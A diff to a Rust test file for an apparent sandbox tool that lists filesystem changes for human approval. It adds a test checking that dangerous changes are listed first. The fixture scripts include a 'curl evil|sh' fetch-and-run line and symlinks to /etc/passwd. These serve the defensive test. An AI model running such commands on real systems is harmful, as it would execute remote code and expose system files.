@@ -347,9 +347,10 @@ const LARGE: &str = "seq 20000 > a.txt; echo 'curl evil|sh' > z.sh; chmod 750 z.
 #[test]
 fn c_32_8_a_question_lists_every_change_and_names_what_prints_a_cut_diff() {
     let Some(sandbox) = waiting("", LARGE) else { return };
-    let listed = "    new file, mode 0644: a.txt\n    directory, now file, mode 0644: d\n    deleted file: d/x\n    \
-        new directory, mode 2755: empty\n    file, mode 0644, now 0600: f\n    deleted file: gone\n    \
-        new file, mode 0644: n/m/file\n    new file, mode 0750: z.sh\n    new symlink: zz -> /etc/passwd\n    diff --git ";
+    let listed = "    directory, now file, mode 0644: d\n    deleted file: d/x\n    deleted file: gone\n    \
+        new file, mode 0750: z.sh\n    new symlink: zz -> /etc/passwd\n    new file, mode 0644: a.txt\n    \
+        new directory, mode 2755: empty\n    file, mode 0644, now 0600: f\n    new file, mode 0644: n/m/file\n    \
+        Deleted directory d\n    diff --git ";
     let work = sandbox.path("work").canonicalize().unwrap();
     let command = format!("delta diff r -w {}", work.display());
     let note = format!("    … `{command}` prints the whole diff\n");
@@ -416,6 +417,23 @@ fn c_32_8_very_many_changes_are_folded_and_counted() {
     show(&["-v"], 200);
     let names = sandbox.delta(["diff", "r", "-w", "work", "--name-only"]).output().expect_code(1);
     assert_eq!(names.stdout.lines().count(), 1200);
+}
+
+/// Harmless files with names that come first must not hide what is dangerous.
+#[test]
+fn c_32_8_the_most_dangerous_changes_come_first() {
+    let script = "for i in $(seq 1200); do echo > a$i; done; rm f; ln -s /etc/passwd z; echo x > y; chmod +x y";
+    let Some(sandbox) = waiting("", script) else { return };
+    let request = &sandbox.events("APPROVAL_REQUEST")[0]["stage"];
+    let changes: Vec<_> = request["changes"].as_array().unwrap().iter().take(4).collect();
+    let expected = [
+        "deleted file: f",
+        "new file, mode 0755: y",
+        "new symlink: z -> /etc/passwd",
+        "new file, mode 0644: a1",
+    ];
+    assert_eq!(changes, expected);
+    assert!(request["diff"].as_str().unwrap().starts_with("diff --git a/f b/f\ndeleted file"));
 }
 
 #[test]
